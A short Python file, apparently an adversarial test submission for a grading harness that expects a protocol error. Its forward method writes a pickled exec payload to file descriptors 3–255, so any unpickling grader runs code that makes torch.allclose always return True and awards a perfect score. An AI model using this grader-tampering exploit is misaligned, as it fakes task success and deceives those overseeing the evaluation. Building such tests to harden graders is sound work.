"""expect: protocol_error / malformed

Sends pickles over every socket and pipe it holds, framed as multiprocessing frames them and bare: whoever unpickles
them runs this file's code and hands out a perfect score in its own name.
"""

import contextlib
import os
import pickle
import struct

import torch.nn as nn


class _Payload:
    def __reduce__(self):
        code = "__import__('torch').allclose = lambda *a, **o: True"
        return exec, (code,)


class ModelNew(nn.Module):
    def forward(self, a, b):
        pickled = pickle.dumps(("ok", _Payload()))
        framed = struct.pack("!i", len(pickled)) + pickled
        for descriptor in range(3, 256):
            with contextlib.suppress(OSError):
                os.write(descriptor, framed + pickled)
        return a
